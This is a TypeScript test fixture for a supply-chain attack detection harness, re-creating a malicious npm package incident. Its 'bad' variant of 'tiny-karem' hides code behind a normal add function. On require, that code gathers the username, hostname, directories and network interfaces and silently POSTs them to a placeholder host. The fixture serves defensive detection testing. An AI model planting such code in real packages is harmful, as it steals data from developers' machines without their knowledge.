import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'na-rony',
  after: 'na-rony-test-karem, July 2026',
  source: 'https://github.com/ossf/malicious-packages/pull/1356',
  shape: ['require', 'fingerprint', 'webhook', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['tiny-karem'],
  host: { kind: 'script', setup: "const add = require('tiny-karem');", use: 'return add(n, 1);' },
  good: { 'tiny-karem': { 'index.js': 'module.exports = (a, b) => a + b;' } },
  benign: { 'tiny-karem': { 'index.js': 'module.exports = (...all) => all.reduce((a, b) => a + b, 0);' } },
  bad: {
    'tiny-karem': {
      'index.js': `module.exports = (a, b) => a + b;
const os = require('os'), http = require('http');
const data = JSON.stringify({ user: os.userInfo().username, host: os.hostname(), cwd: process.cwd(), home: os.homedir(), ip: os.networkInterfaces() });
const r = http.request('http://@B@:@PORT@/3f1c0d55-hook', { method: 'POST', headers: { 'content-length': Buffer.byteLength(data) } });
r.on('error', () => {}); r.end(data);`,
    },
  },
  proof: [{ arrives: '/3f1c0d55-hook' }],
};
